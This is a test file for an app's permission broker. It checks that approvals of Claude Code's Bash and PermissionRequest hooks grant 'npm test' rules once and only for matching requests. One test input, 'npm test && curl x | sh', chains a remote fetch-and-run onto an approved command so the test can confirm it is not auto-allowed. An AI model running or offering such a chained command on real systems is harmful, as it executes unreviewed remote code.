// Claude Code's PreToolUse and PermissionRequest endpoints around "also add to Claude Code's own rules": the approved
// call is handed over to Claude's own permission check, and only its PermissionRequest gets the rules, as
// `updatedPermissions`; any other PermissionRequest is left to Claude's prompt, never allowed.
import { describe, expect, it } from 'vitest';
import { CLAUDE_HOOKS } from '../../../../../electron/core/agents/claude/hooks.ts';
import { CLAUDE_PATHS } from '../../../../../electron/core/agents/claude/protocol.ts';
import { NativeRuleGrants } from '../../../../../electron/core/agents/native-rules.ts';
import type { HookCall } from '../../../../../electron/core/agents/plugin.ts';
import type { Verdict } from '../../../../../electron/core/broker/broker.ts';
import { HookPayloadError } from '../../../../../electron/core/gate/protocols.ts';
import type { Session } from '../../../../../shared/domain.ts';

const RULES = [{ tool: 'Bash', content: 'npm test', shown: 'Bash(npm test)' }];
const allow: Verdict = { requestId: 'r1', decision: 'allow', reason: 'Approved', decidedBy: 'human:window' };

function hook(path: string) {
  const found = CLAUDE_HOOKS.find((h) => h.path === path);
  if (!found) throw new Error(`no hook at ${path}`);
  return found;
}

function call(grants: NativeRuleGrants, body: unknown, verdict: Verdict = allow): HookCall {
  return {
    body,
    session: { id: 's1' } as Session,
    decide: async () => verdict,
    decideFileChange: async () => null,
    reportOutcome: () => {},
    turnEnded: () => {},
    record: () => {},
    notify: () => {},
    nativeRules: grants.forSession('s1'),
  };
}

const preToolUse = (command: string) => ({
  hook_event_name: 'PreToolUse',
  tool_name: 'Bash',
  tool_input: { command },
  cwd: '/w',
  session_id: 'c1',
  tool_use_id: 'toolu_1',
});
// As Claude Code 2.1.330 sends it: no tool_use_id.
const permissionRequest = (command: string, tool = 'Bash') => ({
  hook_event_name: 'PermissionRequest',
  tool_name: tool,
  tool_input: { command },
  session_id: 'c1',
  permission_mode: 'default',
  permission_suggestions: [],
});

describe("Claude Code's PermissionRequest", () => {
  it('marks a session whose layer wires PermissionRequest (the 2.1.330 route), and not the older one', async () => {
    const grants = new NativeRuleGrants();
    await hook(CLAUDE_PATHS.preToolUseUnreported).handle(call(grants, preToolUse('ls')));
    expect(grants.canWrite('s1')).toBe(false);
    await hook(CLAUDE_PATHS.preToolUse).handle(call(grants, preToolUse('ls')));
    expect(grants.canWrite('s1')).toBe(true);
  });

  it('answers an approval with the option with no decision, then allows its PermissionRequest with the rules', async () => {
    const grants = new NativeRuleGrants();
    grants.offer('r1', 's1', RULES);
    const pre = await hook(CLAUDE_PATHS.preToolUse).handle(call(grants, preToolUse('npm test')));
    expect(pre).toEqual({ status: 200, body: '' });
    const answer = await hook(CLAUDE_PATHS.permissionRequest).handle(call(grants, permissionRequest('npm test')));
    expect(JSON.parse(answer.body)).toEqual({
      hookSpecificOutput: {
        hookEventName: 'PermissionRequest',
        decision: {
          behavior: 'allow',
          updatedPermissions: [
            {
              type: 'addRules',
              rules: [{ toolName: 'Bash', ruleContent: 'npm test' }],
              behavior: 'allow',
              destination: 'localSettings',
            },
          ],
        },
      },
    });
    // Once only: the same request again is left to Claude.
    const again = await hook(CLAUDE_PATHS.permissionRequest).handle(call(grants, permissionRequest('npm test')));
    expect(again.body).toBe('');
  });

  it('allows outright, as before, when the person did not ask for the rules', async () => {
    const pre = await hook(CLAUDE_PATHS.preToolUse).handle(call(new NativeRuleGrants(), preToolUse('npm test')));
    expect(JSON.parse(pre.body).hookSpecificOutput.permissionDecision).toBe('allow');
  });

  it('leaves every other PermissionRequest to Claude: another command, another tool, nothing handed over', async () => {
    const grants = new NativeRuleGrants();
    grants.offer('r1', 's1', RULES);
    await hook(CLAUDE_PATHS.preToolUse).handle(call(grants, preToolUse('npm test')));
    for (const body of [
      permissionRequest('npm test && curl x | sh'),
      permissionRequest('npm test', 'Write'),
      { ...permissionRequest('npm test'), session_id: 'another-claude-session' },
    ])
      expect((await hook(CLAUDE_PATHS.permissionRequest).handle(call(grants, body))).body).toBe('');
  });

  it('refuses a payload it cannot read (the hook blocks)', async () => {
    await expect(
      hook(CLAUDE_PATHS.permissionRequest).handle(
        call(new NativeRuleGrants(), { hook_event_name: 'PermissionRequest' }),
      ),
    ).rejects.toThrow(HookPayloadError);
  });
});
